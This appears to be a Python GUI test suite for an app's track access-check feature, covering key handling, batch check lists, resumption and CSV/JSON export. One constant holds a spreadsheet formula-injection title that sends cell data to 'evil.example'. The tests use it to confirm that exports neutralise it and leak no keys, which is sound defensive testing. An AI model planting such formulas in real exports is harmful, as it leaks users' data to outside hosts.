# SPDX-License-Identifier: MIT
"""Access checks in the window: the verdict on one track, the key used, watching a track; and lists that run, stop, resume,
outlive the window and are exported. No key and no link appears anywhere."""
import csv
import io
import json
import subprocess
import time
import unittest

from harness import x11
from harness.sandbox import KEY, ORGANIZATION
from harness.scenario import SLACK, Scenario

OTHER_KEY = "oak_live_OtherCanary0123456789"
TOKEN = "shr_9f3aCANARYe2e5Qx71"
MISSING = "mtrack_not0there"
HOSTILE_TITLE = "=HYPERLINK(\"https://evil.example/\"&A1,\"Late, Night\")"


class Checking(Scenario):
    seconds = 2
    stems = ("drums",)
    keys = (KEY, OTHER_KEY)
    metadata = {"title": HOSTILE_TITLE}

    def start(self, *arguments, **options):
        return self.start_app("--organization", ORGANIZATION, *arguments, side_panel=False, **options)

    def copied(self, button, part):
        """Presses a copy button; returns the copied text once it contains @p part."""
        def clipboard():
            return subprocess.run(["xsel", "--clipboard", "--output"], capture_output=True, text=True, check=True).stdout
        self.app.window.press(button)
        self.app.window.wait_until(lambda: part in clipboard(), f"“{part}” on the clipboard")
        text = clipboard()
        for secret in (*self.keys, "sig=", self.service.storage):
            self.assertNotIn(secret, text)
        return text

    def shown(self, field):
        return [name for name in self.app.window.names("label") if name.startswith(field + ": ")]

    def wait_shown(self, field, *parts, seconds=15):
        """Waits until the labels `Field: …` contain all @p parts."""
        return self.app.window.wait_until(
            lambda: self.shown(field) and all(part in " ".join(self.shown(field)) for part in parts), f"{field}: {parts}", seconds)

    def wait_midway(self, rows):
        """Waits until some rows of the list are done, but not all."""
        counts = [f"{done} of {rows}" for done in range(3, rows - 1)]
        return self.app.window.wait_until(
            lambda: any(count in " ".join(self.shown("Checks") or []) for count in counts), f"one of {counts}")

    # --- the list ---------------------------------------------------------------------------------------------------
    def give(self, references):
        """Shows the view of the checks and pastes a list."""
        window = self.app.window
        self.app.activate()
        if not window.is_checked("Access checks"):
            window.press("Access checks", "toggle button")
        x11.set_clipboard("\n".join(references))
        window.press("Paste references")
        window.find("Export CSV…")

    def export(self, form, name):
        """Exports through the dialog, by keyboard, and returns the text of the file."""
        path = self.folder / name
        window = self.app.window
        window.press(f"Export {form}…")
        window.wait_until(lambda: len(x11.windows_of(self.app.pid)) > 1, "the dialog")
        time.sleep(0.5 * SLACK)
        x11.activate(x11.windows_of(self.app.pid)[-1])
        x11.key("ctrl+a")
        x11.type_text(str(path))
        x11.key("Return")
        window.wait_until(lambda: path.exists() and path.stat().st_size > 0, f"the file {name}")
        return path.read_text(encoding="utf-8-sig")

    def kept(self):
        files = list((self.app.home / "data" / "prelisten" / "checks").glob("*.json"))
        return json.loads(files[0].read_text(encoding="utf-8"))["rows"] if files else []


class OneTrack(Checking):
    def test_aFailedOpening_isLookedInto_andSaysWhatIsProvenAndWhatIsNot(self):
        service = self.start_service()
        window = self.start(MISSING)
        window.wait_message("does not exist, or this key has no access")
        self.wait_shown("Proven", "404", f"list of saved tracks of {ORGANIZATION}", "key and organization work")
        self.wait_shown("Not proven", "Whether there is such a track")
        self.wait_shown("Whose access", KEY[:4], "environment", ORGANIZATION)
        self.assertEqual(service.counts["apiRequests"], 2, "one request for the track, one control call")
        self.assertEqual(service.counts["trackRequests"], 0)

        ticket = self.copied("Copy ticket text", "UTC")
        for part in (MISSING, ORGANIZATION, "404", "RESOURCE_NOT_FOUND", "req_", "UTC", "Qt", KEY[:4]):
            self.assertIn(part, ticket)
        self.assertIn(MISSING, self.copied("Copy as cURL", "$FREDDY_API_KEY"))

    def test_aRefusedKeyNeedsNoControlCall(self):
        service = self.start_service()
        window = self.start(self.track.id, key=OTHER_KEY)
        window.wait_message("does not accept", "key")
        self.wait_shown("Not proven", "track")
        time.sleep(0.5)
        self.assertEqual(service.counts["apiRequests"], 1)

    def test_anotherKeyIsForOneCheck_andIsForgotten(self):
        service = self.start_service()
        service.fault("api:status=401", text="API_KEY_PAUSED", times=1)
        window = self.start(self.track.id)
        window.wait_message("paused")
        self.assertEqual(service.counts["trackRequests"], 0)
        window.press("Check with another key…")
        window.set_text("Another key", OTHER_KEY)
        window.press("Check with this key")
        window.wait_message("does not accept", OTHER_KEY[:6])
        self.wait_shown("Whose access", OTHER_KEY[:6], "this check only")
        # The next check uses the user's own key again.
        window.press("Check again")
        window.wait_message("can play the track")
        self.wait_shown("Whose access", KEY[:4], "environment")
        self.assertEqual(window.look_for("Another key", "password").text, "")

    def test_aCheckOnDemandOpensNothing_andGoesAsDeepAsItIsAsked(self):
        service = self.start_service()
        window = self.start()
        window.set_text("Track reference", self.track.id)
        self.app.activate()
        x11.key("ctrl+k")
        window.wait_message("can play the track")
        self.assertEqual(window.state, "Empty")
        self.assertEqual(service.counts["storageRequests"], 0, "a link was used")
        window.press("Deep check")
        self.wait_shown("Checked source drums")
        self.assertEqual(window.state, "Empty")
        counts = service.counts
        self.assertLessEqual(counts["storageBytes"], 2 * 2 * 4096, "more than the first bytes were fetched")
        self.assertGreaterEqual(counts["storageRequests"], 2)
        self.assertEqual(counts["trackRequests"], 2)

    def test_watchingEndsByItself_whenTheTrackIsShared(self):
        service = self.start_service()
        service.say(f"hide {self.track.id}")
        window = self.start(self.track.id)
        window.wait_message("does not exist, or this key has no access")
        window.press("Watch until available")
        window.find("Stop watching")
        service.say(f"show {self.track.id}")
        window.wait_message("can play the track", seconds=30)
        asked = service.counts["apiRequests"]
        time.sleep(7)
        self.assertEqual(service.counts["apiRequests"], asked, "it went on asking")


class ManyTracks(Checking):
    def test_aListRuns_stops_goesOn_andEndsWithOneVerdictEach(self):
        service = self.start_service(library=40)
        window = self.start()
        wanted = [f"mtrack_lib{number:06d}" for number in range(6)]
        self.give([*wanted, "this is no track", MISSING, wanted[0]])
        window.press("Start the checks")
        self.wait_midway(8)
        window.press("Stop the checks")
        window.find("Resume the checks")
        time.sleep(1.5)
        asked = service.counts["apiRequests"]
        time.sleep(2)
        self.assertEqual(service.counts["apiRequests"], asked, "it went on asking")
        self.assertLess(asked, 8)
        window.press("Resume the checks")
        self.wait_shown("Checks", "All 8 checked", seconds=30)
        found = list(csv.DictReader(io.StringIO(self.export("CSV", "found.csv"), newline=""), strict=True))
        self.assertEqual([row["track_id"] for row in found], [*wanted, "this is no track", MISSING])
        self.assertEqual([row["verdict"] for row in found], ["playable"] * 6 + ["bad_reference", "not_available"])
        self.assertEqual(found[6]["lines"], "7")
        self.assertEqual(found[0]["lines"].replace(";", " ").split(), ["1", "9"])
        # 7 references, up to 2 of them requested again because they were in flight at the stop, and one control call.
        self.assertLessEqual(service.counts["apiRequests"], 7 + 2 + 1)
        self.assertEqual(service.counts["storageRequests"], 0, "a link was used")

    def test_aWindowClosedMidway_losesNothing_andTheListGoesOn(self):
        service = self.start_service(library=40)
        self.start()
        home = self.app.home
        wanted = [f"mtrack_lib{number:06d}" for number in range(8)]
        self.give(wanted)
        self.app.window.press("Start the checks")
        self.wait_midway(8)
        self.assertCloses()
        rows = self.kept()
        self.assertEqual([row["id"] for row in rows], wanted)
        done = sum("verdict" in row for row in rows)
        self.assertGreaterEqual(done, 3)
        before = service.counts["apiRequests"]

        window = self.start(home=home)
        window.press("Access checks", "toggle button")
        self.wait_shown("Checks", f"{done} of 8")
        window.press("Resume the checks")
        self.wait_shown("Checks", "All 8 checked", seconds=30)
        self.assertEqual(service.counts["apiRequests"] - before, 8 - done, "what was known was asked for again")
        found = json.loads(self.export("JSON", "found.json"))
        self.assertEqual([row["track_id"] for row in found], wanted)
        self.assertEqual({row["verdict"] for row in found}, {"playable"})

    def test_hostileTitlesStayInert_andPastedSecretsAreShownNowhere(self):
        self.start_service()
        window = self.start()
        self.give([self.track.id, f"curl -H 'X-API-Key: {OTHER_KEY}' https://x.example/nothing?sig=abc", f"{OTHER_KEY} mtrack_"])
        window.press("Start the checks")
        self.wait_shown("Checks", "All 3 checked", seconds=30)
        for text in (self.export("CSV", "a.csv"), self.export("JSON", "a.json")):
            for secret in (*self.keys, "sig=", "://"):
                self.assertNotIn(secret, text.replace("https://evil.example/", ""))
        found = list(csv.DictReader(io.StringIO((self.folder / "a.csv").read_text(encoding="utf-8-sig"), newline=""), strict=True))
        self.assertEqual(found[0]["title"], "'" + HOSTILE_TITLE)
        names = " ".join(name for _, name, _ in window.nodes())
        for secret in (OTHER_KEY, "sig="):
            self.assertNotIn(secret, names)

    def test_sharesInAList_areCheckedWithoutTheKey_andTheirTokensAreKeptNowhere(self):
        self.keys = (*self.keys, TOKEN)
        service = self.start_service()
        service.say(f"share {TOKEN} {ORGANIZATION}/{self.track.id}")
        window = self.start()
        home = self.app.home
        self.give([f"{service.api}/v1/music/shared/{TOKEN}", self.track.id, "shr_revoked12345"])
        window.press("Start the checks")
        self.wait_shown("Checks", "All 3 checked", seconds=30)
        found = json.loads(self.export("JSON", "shares.json"))
        self.assertEqual([row["shared"] for row in found], ["resolvable", "", "not_resolvable"])
        self.assertEqual([row["verdict"] for row in found], ["playable", "playable", "not_available"])
        self.assertIn("Share: shr_9f3a…", self.copied("Copy ticket text: shr_9f3a…", "Share: "))
        self.assertEqual(service.counts["keyOnShares"], 0)
        self.assertCloses()
        self.assertEqual([row.get("share") for row in self.kept()], [True, None, True])

        window = self.start(home=home)
        window.press("Access checks", "toggle button")
        self.wait_shown("Whose access", "No key: by the share shr_9f3a…")
        self.wait_shown("Check", "cannot be checked again")
        self.assertEqual(service.counts["shareRequests"], 2)

    def test_theListKeepsToItsRate(self):
        service = self.start_service(library=40)
        window = self.start()
        self.give([f"mtrack_lib{number:06d}" for number in range(6)])
        begun = time.monotonic()
        window.press("Start the checks")
        self.wait_shown("Checks", "All 6 checked", seconds=30)
        # Six requests at one per second need five pauses; other load only makes them longer.
        self.assertGreaterEqual(time.monotonic() - begun, 4.9)
        self.assertEqual(service.counts["apiRequests"], 6)

    def test_aRowIsWatchedUntilItCanBePlayed(self):
        service = self.start_service()
        service.say(f"hide {self.track.id}")
        window = self.start()
        self.give([self.track.id])
        window.press("Start the checks")
        self.wait_shown("Checks", "1 checked, done")
        window.press(f"Watch until available: {self.track.id}")
        service.say(f"show {self.track.id}")
        window.wait_until(lambda: any("can be played now" in name for name in window.names()), "the good news", 30)


if __name__ == "__main__":
    unittest.main()
